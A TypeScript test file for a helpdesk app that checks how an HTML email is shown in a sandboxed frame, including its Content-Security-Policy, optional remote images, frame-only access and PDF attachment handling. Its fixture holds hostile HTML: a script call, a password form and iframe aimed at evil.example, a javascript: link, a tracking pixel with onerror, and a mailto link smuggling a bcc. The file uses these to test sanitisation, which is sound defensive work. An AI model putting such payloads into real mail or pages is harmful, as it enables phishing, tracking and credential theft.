// The page that shows an HTML mail: its policy, its images, and who gets it.

import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { withPlainMailLinks } from '../../../src/http/wire/mail/inline-images.ts';
import { type TestApp, testApp } from '../../support/app.ts';
import { file } from '../walks/step.ts';

const hostile = `<p style="position:fixed;top:0;color:red">Hello <b>there</b></p><script>steal()</script>
<form action="https://evil.example"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example">
<a href="javascript:steal()">click</a><img src="https://evil.example/pixel.png" onerror="steal()"><iframe src="https://evil.example"></iframe>`;

let app: TestApp;
let ticket: string;
let message: string;
beforeAll(async () => {
  app = await testApp();
  const sent = await app.ask('POST', `/api/webhooks/raw/inbound/${app.inboundSecret}`, {
    body: `From: Mia <mia@example.org>\r\nTo: shop@desk.example\r\nSubject: Hello\r\nMessage-ID: <h1@example.org>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${hostile}`,
  });
  ticket = sent.json.ticket;
  message = (await app.asTeam('GET', `/api/v1/tickets/${ticket}`)).json.data.messages[0].ulid;
});
afterAll(() => app.close());

const frame = (query = '') => app.asTeam('GET', `/tickets/${ticket}/messages/${message}/frame${query}`);

describe('the frame of a mail', () => {
  test('runs nothing, sends nothing, and stays in the desk', async () => {
    const { status, headers, text } = await frame();
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(headers.get('content-security-policy')?.split('; ')).toEqual([
      "default-src 'none'",
      "img-src 'self' data:",
      "style-src 'unsafe-inline'",
      "base-uri 'none'",
      "form-action 'none'",
      "frame-ancestors 'self'",
      'sandbox allow-same-origin allow-popups allow-popups-to-escape-sandbox',
    ]);
    expect(text).toContain('Hello <b>there</b>');
    // The desk's own style is before the body.
    expect(text.slice(text.indexOf('<body>'))).not.toMatch(
      /<script|<form|<input|http-equiv|javascript:|onerror|<iframe|position/,
    );
  });

  test('loads images of other hosts only when it is asked to', async () => {
    expect((await frame()).text).not.toContain(' src="https://evil.example');
    const shown = await frame('?images=1');
    expect(shown.text).toContain(' src="https://evil.example/pixel.png"');
    expect(shown.headers.get('content-security-policy')).toContain("img-src 'self' data: https: http:;");
    expect((await frame('?images=maybe')).status).toBe(400);
  });

  test('is shown to an agent only in a frame of the desk, and never as a page of its own', async () => {
    const { headers } = await app.person('viewer');
    const path = `/tickets/${ticket}/messages/${message}/frame`;
    const token = (await app.ask('GET', '/api/v1/session', { headers })).json.data.frame_token;
    const { Cookie = '' } = headers;
    const asked = async (fetched: Record<string, string>, query = '?images=1') => {
      const { status, json } = await app.ask('GET', path + query, { headers: { Cookie, ...fetched } });
      return [status, json?.code];
    };
    const [shown, refused] = [
      [200, undefined],
      [403, 'frame_only'],
    ];
    expect(await asked({ 'Sec-Fetch-Dest': 'iframe', 'Sec-Fetch-Site': 'same-origin' })).toEqual(shown);
    for (const [destination, site] of [
      ['document', 'cross-site'],
      ['document', 'same-origin'],
      ['document', 'none'],
      ['iframe', 'cross-site'],
      ['iframe', 'same-site'],
      ['embed', 'same-origin'],
    ] as const)
      for (const query of ['?images=1', `?images=1&token=${token}`])
        expect(await asked({ 'Sec-Fetch-Dest': destination, 'Sec-Fetch-Site': site }, query)).toEqual(refused);
    expect(await asked({}, `?images=1&token=${token}`)).toEqual(shown);
    const other = await app.person('viewer');
    const others = (await app.ask('GET', '/api/v1/session', { headers: other.headers })).json.data.frame_token;
    for (const wrong of ['', others]) expect(await asked({}, `?images=1&token=${wrong}`)).toEqual(refused);
  });

  test('keeps of a link in older mail only the address', () => {
    const html = '<a href="mailto:mia@example.org?bcc=eve@evil.example">a</a><a href="https://example.org/?a=1">b</a>';
    expect(withPlainMailLinks(html)).toBe(
      '<a href="mailto:mia@example.org">a</a><a href="https://example.org/?a=1">b</a>',
    );
  });

  test('comes in dark colours for mail that has none', async () => {
    expect((await frame()).text).toContain('color-scheme:light');
    expect((await frame('?theme=dark')).text).toContain('color-scheme:dark');
  });

  test('is only for those who see the ticket, and only for messages with HTML on it', async () => {
    const path = `/tickets/${ticket}/messages/${message}/frame`;
    expect((await app.ask('GET', path)).status).toBe(401);
    const other = await app.open();
    const plain = (await app.asTeam('GET', `/api/v1/tickets/${other.ulid}`)).json.data.messages[0].ulid;
    for (const wrong of [
      `/tickets/${other.ulid}/messages/${message}/frame`,
      `/tickets/${other.ulid}/messages/${plain}/frame`,
      `/tickets/${ticket}/messages/01K4VJ8Q4N7RM2ZC6B0T3XWYDE/frame`,
    ])
      expect((await app.asTeam('GET', wrong)).status, wrong).toBe(404);
  });
});

describe('a PDF', () => {
  const upload = async (form: FormData) => {
    const { ulid, accessToken } = await app.open();
    const sent = await app.asSite(
      'POST',
      `/api/v1/public/tickets/${ulid}/attachments?access_token=${accessToken}`,
      form,
    );
    return sent.json.attachment.url as string;
  };

  test('is shown in a frame of the desk when the address says so, and downloaded otherwise', async () => {
    const url = await upload(file('paper.pdf', '%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF'));
    const loaded = await app.ask('GET', url);
    expect(loaded.headers.get('content-disposition')).toStartWith('attachment;');
    expect(loaded.headers.get('x-frame-options')).toBe('DENY');
    const viewed = await app.ask('GET', `${url}&view=1`);
    expect(viewed.headers.get('content-disposition')).toStartWith('inline;');
    expect(viewed.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(viewed.headers.get('content-security-policy')).not.toContain('sandbox');
  });

  test('and nothing else is', async () => {
    const url = await upload(file('log.txt', 'words'));
    const viewed = await app.ask('GET', `${url}&view=1`);
    expect(viewed.headers.get('content-disposition')).toStartWith('attachment;');
    expect(viewed.headers.get('content-security-policy')).toContain('sandbox');
  });
});
